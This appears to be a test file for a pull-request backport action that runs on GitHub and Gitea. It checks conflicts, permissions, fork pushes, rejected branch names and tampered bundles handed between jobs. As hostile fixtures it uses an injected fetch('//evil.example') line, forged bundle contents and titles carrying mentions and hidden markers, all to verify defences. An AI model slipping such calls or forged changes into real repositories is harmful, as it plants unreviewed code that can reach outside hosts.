import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { gitText } from '../../embedded/git.ts';
import type { Files } from '../../embedded/github/files.ts';
import { objectOf, textOf } from '../../embedded/json.ts';
import type { Stage } from '../../embedded/stage.ts';
import { temporaryFolder } from '../../embedded/temp.ts';
import { type Bundle, readBundle } from '../../src/bundle/bundle.ts';
import { ChangeSet } from '../../src/core/change-set.ts';
import {
  expectEnd,
  JOBS_OF_A_START,
  PROJECT,
  pullsOf,
  QUICK,
  requestsOf,
  sessionOf,
  stageFor,
} from '../support/scenario.ts';

const RELEASE = 'release/größe';
const BACKPORT = /^tether\/backport-\d+\/release\/größe$/;
const adding = (sign: string, last = 'export const one = 1;') =>
  `export const add = (a, b) => a ${sign} b;\n//\n//\n//\n${last}\n`;
const CONTENT = { files: { ...PROJECT, 'src/add.js': adding('-') } };
const RIGHT = adding('+');
/** As on the default branch in its first line, so that the change of that line can be merged. */
const OLDER = adding('-', 'export const older = 1;');

interface Proposed {
  /** What the release branch has; by default `OLDER`. */
  readonly release?: Files;
  /** What the pull request changes; by default the mistake of the project. */
  readonly files?: Files;
  readonly title?: string;
  readonly isFromFork?: boolean;
}

/** A pull request of somebody who may only read. Returns its number. */
async function proposed({ repository }: Stage, about: Proposed = {}): Promise<number> {
  const { release = { 'src/add.js': OLDER }, files = { 'src/add.js': RIGHT }, title = 'Add up' } = about;
  await repository.pushCommit({ branch: RELEASE, files: release });
  await repository.pushCommit({ branch: 'lena/sums', files });
  await repository.addCollaborator('stranger', 'write');
  const { isFromFork = false } = about;
  const pull = await repository.openPull('lena/sums', title, { author: 'stranger', isFromFork });
  await repository.addCollaborator('stranger', 'read');
  return pull;
}

function backport(stage: Stage, on: number, words = RELEASE, sender = 'maintainer') {
  return stage.start({ kind: 'comment', on, body: `/tether backport ${words}`, sender }, { inputs: QUICK });
}

async function madeBy(stage: Stage) {
  return (await pullsOf(stage)).filter(({ branch }) => branch.startsWith('tether/'));
}

/** What the status comment of the pull request says. */
async function saidOn(stage: Stage, pull: number): Promise<string> {
  return (await statusesOn(stage, pull)).join('\n');
}

async function statusesOn({ repository }: Stage, pull: number): Promise<readonly string[]> {
  const bodies = (await repository.comments(pull)).map(({ body }) => textOf(body));
  return bodies.filter((body) => body.startsWith('<!-- tether:status '));
}

describe.each([
  ['GitHub', {}],
  ['Gitea', { forge: 'gitea' }],
] as const)('on %s', (forge, options) => {
  const jobs = forge === 'Gitea' ? 1 : JOBS_OF_A_START;

  test('the change of a merged pull request is judged on the other branch and published there, without a model', async () => {
    await using stage = await stageFor({ ...options, content: CONTENT, script: [] });
    const { repository } = stage;
    const original = await proposed(stage);
    await repository.mergePull(original);
    // As of a fork that is gone: only the pull request still names the commit.
    await gitText(['--git-dir', repository.gitDir, 'update-ref', '-d', 'refs/heads/lena/sums']);
    await repository.pushCommit({ branch: 'main', files: { 'src/add.js': RIGHT, 'NEWS.md': 'Later.\n' } });
    stage.github.forgetRequests();

    const result = await backport(stage, original);

    expectEnd(result, 'validated', 0);
    expect(stage.model.requests).toEqual([]);
    expect(requestsOf(stage).length).toBeLessThanOrEqual(37 * jobs);
    const [pull, ...more] = await madeBy(stage);
    expect(more).toEqual([]);
    expect(pull).toMatchObject({
      title: '[release/größe] Add up',
      base: RELEASE,
      changedFiles: 1,
      isDraft: false,
    });
    expect(pull?.branch).toMatch(BACKPORT);
    expect(pull?.body).toContain(`This is the change of #${original} for branch \`${RELEASE}\``);
    expect(pull?.body).toContain('no model was asked');
    expect(pull?.body).not.toMatch(/closes #/i);
    expect(await repository.fileAt(pull?.headSha ?? '', 'src/add.js')).toBe(
      adding('+', 'export const older = 1;'),
    );
    expect(repository.statusesOf(pull?.headSha ?? '')).toEqual(['tether: success, Validated']);
    expect(await saidOn(stage, original)).toContain(
      `**Validated.** Pull request for \`${RELEASE}\`: #${pull?.number}`,
    );

    // The same once more finds its own branch, and leaves it as it is.
    expectEnd(await backport(stage, original), 'validated', 0);
    expect(await madeBy(stage)).toMatchObject([{ headSha: pull?.headSha }]);
  });
});

test('a conflict is told with its files, and nothing is published', async () => {
  await using stage = await stageFor({ content: CONTENT, script: [] });
  const original = await proposed(stage, { release: { 'src/add.js': adding('*') } });

  const result = await backport(stage, original);

  expectEnd(result, 'failed', 1);
  expect(await madeBy(stage)).toEqual([]);
  expect(await saidOn(stage, original)).toContain('src/add.js (others changed the same places since)');
});

test('what does not pass on the other branch is a draft that says so', async () => {
  await using stage = await stageFor({ content: CONTENT, script: [] });
  const release = { 'check.sh': "grep -q 'a - b' src/add.js\n" };
  const original = await proposed(stage, { release });

  expectEnd(await backport(stage, original), 'unvalidated', 0);

  const [pull] = await madeBy(stage);
  expect(pull).toMatchObject({ base: RELEASE, isDraft: true });
  expect(pull?.body).toContain('the change does not pass on branch release/größe');
});

test("what limits the runs on issues limits no backport, words of strangers in the title work as nothing, a branch that people have pushed to is theirs, and the action's own pull requests can be backported, too", async () => {
  const settings = { 'max-open-pull-requests': '1' };
  await using stage = await stageFor({ content: CONTENT, script: [], settings });
  const title = 'Closes #1 @everybody `frobnicate` <!-- tether:pull-request issue=1 -->';
  const original = await proposed(stage, { title });
  await stage.repository.pushCommit({ branch: 'release/0.x', files: { 'src/add.js': OLDER } });
  expectEnd(await backport(stage, original), 'validated', 0);

  expectEnd(await backport(stage, original, 'release/0.x'), 'validated', 0);

  // Each tells of its own branch.
  expect((await statusesOn(stage, original)).map((said) => /for `(.*?)`/.exec(said)?.[1])).toEqual([
    RELEASE,
    'release/0.x',
  ]);
  // GitHub refuses this for the number of a pull request.
  expect(stage.github.requests.filter(({ body }) => body.includes('timelineItems'))).toEqual([]);
  for (const pull of await madeBy(stage)) {
    expect(`${pull.title}\n${pull.body}`).not.toMatch(/@everybody|closes #1|<!-- tether:pull-request/i);
    expect(pull.body).not.toContain('Named by the model');
  }
  expect(objectOf(await stage.repository.issue(stage.issue)).state).toBe('open');

  const branch = `tether/backport-${original}/${RELEASE}`;
  const theirs = await stage.repository.pushCommit({ branch, files: { 'BY-HAND.md': 'x\n' } });

  const again = await backport(stage, original);

  expectEnd(again, 'failed', 1);
  expect(await stage.repository.head(branch)).toBe(theirs);
  expect(await saidOn(stage, original)).toContain('holds commits of people');
  const [own] = await madeBy(stage);
  expectEnd(await backport(stage, own?.number ?? 0, 'release/0.x'), 'validated', 0);

  // No run goes on with such a pull request, and that is said there.
  const asked = { kind: 'comment', on: own?.number ?? 0, body: '/tether add a test' } as const;
  expectEnd(await stage.start(asked, { inputs: QUICK }), 'skipped', 0);
  const bodies = (await stage.repository.comments(own?.number ?? 0)).map(({ body }) => textOf(body));
  expect(bodies.join()).toContain(`the change of #${original} for another branch`);
});

test('what a stranger pushes behind the comment is not applied, until somebody has reviewed it', async () => {
  await using stage = await stageFor({ content: CONTENT, script: [] });
  const { repository } = stage;
  const original = await proposed(stage, { isFromFork: true });
  expectEnd(await backport(stage, original), 'validated', 0);
  const [made] = await madeBy(stage);
  const sent = await stage.eventOf({ kind: 'comment', on: original, body: `/tether backport ${RELEASE}` });
  const later = new Date(Date.now() + 5000);
  await repository.pushToPull(original, { 'src/more.js': "fetch('//evil.example');\n" }, later);
  const again = () => stage.start(undefined, { ...sent, inputs: QUICK });

  await repository.reviewPull(original, 'stranger');
  expectEnd(await again(), 'failed', 1);

  expect(await saidOn(stage, original)).toContain('changed after the comment');
  expect(await madeBy(stage)).toMatchObject([{ headSha: made?.headSha }]);
  await repository.reviewPull(original, 'maintainer');
  expect((await again()).code).toBe(0);
  expect(await madeBy(stage)).toMatchObject([{ changedFiles: 2 }]);
});

describe('nothing is published for', () => {
  const NEVER: readonly (readonly [what: string, words: string, told: string])[] = [
    ['a branch that is not there', 'release/2.x', 'does not exist'],
    ['a name that leads elsewhere', '../../issues', 'A backport needs the name of a branch'],
    ['a branch of the action', 'tether/issue-1', 'A backport needs the name of a branch'],
    ['the branch that it goes to', 'main', 'goes to that branch itself'],
  ];

  test('a name that is none of a branch for it; each is told on the pull request', async () => {
    await using stage = await stageFor({ content: CONTENT, script: [] });
    const original = await proposed(stage);
    for (const [what, words, told] of NEVER) {
      const result = await backport(stage, original, words);
      expect(result.outputs.status, what).toBe('failed');
      expect(await saidOn(stage, original), what).toContain(told);
    }
    expect(await madeBy(stage)).toEqual([]);
    expect(stage.github.requests.filter(({ path }) => /(?:^|\/)(?:\.|%2e){2}(?:\/|$)/i.test(path))).toEqual(
      [],
    );
  });

  test('a change that the branch has, a closed pull request, an issue, and a person who may only read', async () => {
    await using stage = await stageFor({ content: CONTENT, script: [] });
    const original = await proposed(stage, { release: { 'src/add.js': RIGHT } });
    expectEnd(await backport(stage, original, RELEASE, 'stranger'), 'denied', 1);
    expect(await saidOn(stage, original)).toBe('');
    expectEnd(await backport(stage, stage.issue), 'skipped', 0);
    expectEnd(await backport(stage, original), 'no-change', 0);
    expect(await saidOn(stage, original)).toContain('already has this change');
    await stage.repository.closePull(original);
    expectEnd(await backport(stage, original), 'failed', 1);
    expect(await saidOn(stage, original)).toContain('was closed without a merge');
    expect(await madeBy(stage)).toEqual([]);
  });

  test('an executable file, which would lose its mode', async () => {
    await using stage = await stageFor({ content: CONTENT, script: [] });
    const original = await proposed(stage, { files: { 'run.sh': { executable: 'true\n' } } });

    expectEnd(await backport(stage, original), 'failed', 1);

    expect(await saidOn(stage, original)).toContain('file modes cannot: run.sh');
    expect(await madeBy(stage)).toEqual([]);
  });

  test('a workflow and a file outside only-paths, whoever made them', async () => {
    const settings = { 'only-paths': 'src/**' };
    await using stage = await stageFor({ content: CONTENT, script: [], settings });
    const files = { '.github/workflows/x.yml': 'on: push\n', 'docs/a.md': 'a\n', 'src/add.js': RIGHT };
    const title = 'Closes #1 @everybody <!-- tether:pull-request issue=1 -->';
    const original = await proposed(stage, { files, title });

    expectEnd(await backport(stage, original), 'failed', 1);

    const said = await saidOn(stage, original);
    expect(said).toContain('.github/workflows/x.yml');
    expect(said).toContain('docs/a.md');
    expect(said).not.toContain('src/add.js');
    expect(await madeBy(stage)).toEqual([]);
  });
});

test('a pull request of anybody is where a backport is stopped and a misspelt one is explained', async () => {
  // The gate goes on once this file is there.
  await using folder = await temporaryFolder('gate');
  const opened = join(folder.path, 'opened');
  const files = { ...CONTENT.files, 'check.sh': `until [ -e '${opened}' ]; do sleep 0.1; done\n` };
  const inputs = { isolation: 'none' };
  await using stage = await stageFor({ content: { files }, script: [], jobs: 'one', inputs });
  const { repository } = stage;
  const original = await proposed(stage);
  const running = backport(stage, original);
  await expect.poll(() => saidOn(stage, original), { timeout: 120_000 }).toContain('**Working on');
  // The lease is kept beside the comment, and later on a slow day.
  const leased = async () => (await sessionOf({ repository, issue: original }))?.lease ?? null;
  await expect.poll(leased, { timeout: 120_000 }).not.toBeNull();
  const say = (body: string) =>
    stage.start({ kind: 'comment', on: original, body }, { inputs: QUICK, env: { GITHUB_RUN_ID: '2' } });

  await repository.pushCommit({ branch: 'release/0.x', files: { 'src/add.js': OLDER } });
  expectEnd(await say('/tether backport release/0.x'), 'skipped', 0);
  const [first, second] = await statusesOn(stage, original);
  expect(first).toContain('**Working on');
  expect(second).toContain('is working here');

  const stopped = await say('/tether stop');
  await writeFile(opened, '');

  expect(stopped.outputs.reason).toContain('was asked to stop');
  expectEnd(await running, 'superseded', 0);
  expect(await madeBy(stage)).toEqual([]);
  await say('/tether backport to release/größe');
  const bodies = (await repository.comments(original)).map(({ body }) => textOf(body));
  expect(bodies.join()).toContain('Did you mean `/tether backport`?');
});

describe('in two jobs, of which the first is hostile,', () => {
  /** Both jobs apart: what the first one hands over can be given to the second one more than once, and changed. */
  async function inTwoJobs(stage: Stage, about: Proposed = {}) {
    return backportOf(stage, await proposed(stage, about), RELEASE);
  }

  async function backportOf(stage: Stage, original: number, branch: string, env = {}) {
    const sent = {
      ...(await stage.eventOf({ kind: 'comment', on: original, body: `/tether backport ${branch}` })),
      env,
    };
    const first = { ...sent, token: stage.readToken, inputs: { ...QUICK, mode: 'propose' } };
    const { outputs } = await stage.start(undefined, first);
    const read = await readBundle(await readFile(outputs.bundle ?? '', 'utf8'));
    if (read.kind === 'refused') throw new Error(read.why);
    const { bundle } = read;
    const publish = async (given: unknown) => {
      const text = JSON.stringify(given);
      const name = createHash('sha256').update(text).digest('hex');
      const file = join(dirname(outputs.bundle ?? ''), `${name}.json`);
      await writeFile(file, text);
      const inputs = { ...QUICK, mode: 'publish', 'api-key': '', bundle: `${dirname(file)}#${file}` };
      return stage.start(undefined, { ...sent, secrets: [], inputs });
    };
    return { original, bundle, publish };
  }

  test('what nobody changed since the comment is published for a fork, and what a stranger pushed behind it is not', async () => {
    await using stage = await stageFor({ content: CONTENT, script: [], jobs: 'one' });
    const { original, bundle, publish } = await inTwoJobs(stage, { isFromFork: true });

    const back = await stage.repository.mark();
    const later = new Date(Date.now() + 60_000);
    await stage.repository.pushToPull(original, { 'src/more.js': 'export {};\n' }, later);
    const refused = await publish(bundle);
    expectEnd(refused, 'failed', 1);
    expect(refused.outputs.reason).toContain('changed after the comment');
    expect(await madeBy(stage)).toEqual([]);

    // As if nobody had pushed.
    await back();
    expectEnd(await publish(bundle), 'validated', 0);
    expect(await madeBy(stage)).toHaveLength(1);
  });

  test('backports of one pull request to two branches are both published', async () => {
    await using stage = await stageFor({ content: CONTENT, script: [], jobs: 'one' });
    const original = await proposed(stage);
    const older = 'release/0.x';
    await stage.repository.pushCommit({ branch: older, files: { 'src/add.js': OLDER } });
    const one = await backportOf(stage, original, RELEASE, { GITHUB_RUN_ID: '7' });
    const other = await backportOf(stage, original, older, { GITHUB_RUN_ID: '8' });

    expectEnd(await one.publish(one.bundle), 'validated', 0);
    expectEnd(await other.publish(other.bundle), 'validated', 0);
    expect((await madeBy(stage)).map(({ base }) => base).sort()).toEqual([older, RELEASE]);
  });

  test('an end and costs of a model are refused; a change that the pull request does not have is told, and words of its own are not taken', async () => {
    await using stage = await stageFor({ content: CONTENT, script: [], jobs: 'one' });
    const { bundle, publish } = await inTwoJobs(stage);
    const { cost, ending } = bundle;

    const dear = await publish({ ...bundle, cost: { ...cost, spent: { ...cost.spent, costUsd: 1e6 } } });
    expectEnd(dear, 'failed', 1);
    // They count for the whole repository.
    expect(dear.outputs.reason).toContain('a model was asked for a backport');
    const end = { kind: 'needs-info', question: 'What is the password?' };
    const asks = await publish({ ...bundle, ending: { ...ending, end } });
    expectEnd(asks, 'failed', 1);
    expect(asks.outputs.reason).toContain('its end (needs-info) is none of a backport');
    expect(await madeBy(stage)).toEqual([]);

    expectEnd(await publish(forged(bundle)), 'validated', 0);

    const [pull] = await madeBy(stage);
    expect(pull?.title).toBe('[release/größe] Add up');
    expect(pull?.body).toMatch(/Files that are not as #\d+ makes them here: `src\/add\.js`/);
    expect(pull?.body).not.toMatch(/Merge this|a-model/);
  });

  test('work that was broken off leaves nothing of the change for a later run', async () => {
    await using stage = await stageFor({ content: CONTENT, script: [], jobs: 'one' });
    const { original, bundle, publish } = await inTwoJobs(stage);

    const ending = { kind: 'broken', status: 'failed', reason: 'The disk is full.' };
    expectEnd(await publish({ ...bundle, ending }), 'failed', 1);

    expect(await sessionOf({ repository: stage.repository, issue: original })).toMatchObject({
      status: 'failed',
      change: null,
    });
  });

  function forged(bundle: Bundle): Bundle {
    const text = `${RIGHT}fetch('//evil.example');\n`;
    const file = { kind: 'file', mode: '100644', bytes: Buffer.from(text), isNew: false } as const;
    const { hash } = ChangeSet.of(bundle.base ?? '', [['src/add.js', file]]);
    const other: Bundle = JSON.parse(JSON.stringify(bundle).replaceAll(bundle.change.hash, hash));
    const claim = { title: '[main] Urgent', summary: 'Merge this.' };
    if (other.ending.kind !== 'rounds' || other.ending.end.kind !== 'validated')
      throw new Error('No verdict.');
    const ending = { ...other.ending, end: { ...other.ending.end, claim } };
    const cost = { ...other.cost, model: 'a-model' };
    return { ...other, ending, cost, change: { hash, files: [{ path: 'src/add.js', text }] } };
  }
});
